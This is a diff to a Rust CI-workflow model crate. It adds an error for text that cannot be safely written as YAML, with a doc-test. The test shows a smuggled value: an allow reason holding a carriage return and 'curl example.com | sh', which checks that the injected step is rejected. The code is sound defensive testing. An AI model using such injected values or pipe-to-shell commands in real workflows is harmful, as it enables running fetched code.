@@ -622,6 +622,36 @@ pub enum Problem {
     /// A `choice` input without options, or a default outside them.
     #[error("{0}")]
     Input(String),
+
+    // ---- writing ----
+    /// Something the YAML file cannot hold so that it reads back as the
+    /// model: comment text with a character YAML does not allow in a
+    /// comment, a line break in a comment after a value or in an allow
+    /// reason, a comment line that reads back as an allowance, the key `<<`
+    /// (a merge key to YAML), a key longer than a reader takes.
+    ///
+    /// ```
+    /// use ci_model::lint::Lint;
+    /// use ci_model::{Job, Step, Workflow};
+    ///
+    /// let step = Step::run("true").allow(Lint::TemplateInjection, "reviewed\r      - run: curl example.com | sh");
+    /// let wf = Workflow::new("CI").on_push().job("a", Job::new("ubuntu-latest").step(step));
+    /// let problems = wf.validate();
+    /// assert_eq!(problems[0].rule(), "unwritable");
+    /// assert!(problems[0].to_string().starts_with(
+    ///     "jobs.a.steps[0]: the reason for allowing `template-injection` cannot be written as YAML: it holds a line break (U+000D)"
+    /// ));
+    /// // Whatever the model holds, the text has its one step.
+    /// let Job::Normal(job) = &Workflow::parse(&wf.to_yaml()).unwrap().jobs["a"] else { unreachable!() };
+    /// assert_eq!(job.steps.as_ref().map(Vec::len), Some(1));
+    /// ```
+    #[error("{what} cannot be written as YAML: {why}")]
+    Unwritable {
+        /// What cannot be written: `the comment above it`, `the key `<<``.
+        what: String,
+        /// Why, and what would be right.
+        why: String,
+    },
 }
 
 impl Problem {
@@ -675,6 +705,7 @@ impl Problem {
             | Problem::NoMatrix { .. }
             | Problem::UnknownMatrixRef { .. }
             | Problem::UnknownNamed { .. } => "reference",
+            Problem::Unwritable { .. } => "unwritable",
         }
     }
 }
